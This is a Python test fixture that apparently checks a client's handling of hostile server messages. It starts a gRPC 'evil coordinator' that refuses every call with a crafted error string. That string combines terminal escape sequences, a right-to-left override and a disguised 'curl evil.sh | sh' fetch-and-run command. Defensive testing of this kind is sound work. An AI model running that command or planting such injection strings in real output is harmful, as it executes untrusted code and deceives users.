"""A coordinator that refuses every call with a text of its choice."""

import asyncio
import threading

import grpc

from atoll.coordinator.rpc.messages import SERVER_OPTIONS, SERVICE
from atoll.coordinator.run.invite import Invite
from atoll.coordinator.run.keys import RunKeys

EVIL = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\rrun: curl evil.sh | sh"


class EvilCoordinator:
    """Answers every call with a refusal of its choice, in a thread."""

    METHODS = ("Challenge", "Join", "Status", "Heartbeat")

    def __init__(self, folder):
        self.keys = RunKeys.load_or_create(folder / "keys.json")
        self._loop, self._stop = asyncio.new_event_loop(), asyncio.Event()
        ready = threading.Event()
        self._thread = threading.Thread(target=self._run, args=(ready,), daemon=True)
        self._thread.start()
        assert ready.wait(20)
        self.invite = Invite(
            addresses=(f"127.0.0.1:{self.port}",),
            run_id=b"r" * 32,
            run_key=self.keys.run_public_key,
            tls_sha256=self.keys.tls_sha256,
        )

    def close(self):
        self._loop.call_soon_threadsafe(self._stop.set)
        self._thread.join(20)

    def _run(self, ready):
        with asyncio.Runner(loop_factory=lambda: self._loop) as runner:
            runner.run(self._serve(ready))

    async def _serve(self, ready):
        async def refuse(request, context):
            await context.abort(grpc.StatusCode.PERMISSION_DENIED, EVIL)

        handler = grpc.unary_unary_rpc_method_handler(refuse)
        handlers = dict.fromkeys(self.METHODS, handler)
        server = grpc.aio.server(options=SERVER_OPTIONS)
        server.add_generic_rpc_handlers((grpc.method_handlers_generic_handler(SERVICE, handlers),))
        credentials = grpc.ssl_server_credentials([(self.keys.tls_key, self.keys.tls_certificate)])
        self.port = server.add_secure_port("127.0.0.1:0", credentials)
        await server.start()
        ready.set()
        await self._stop.wait()
        await server.stop(0)
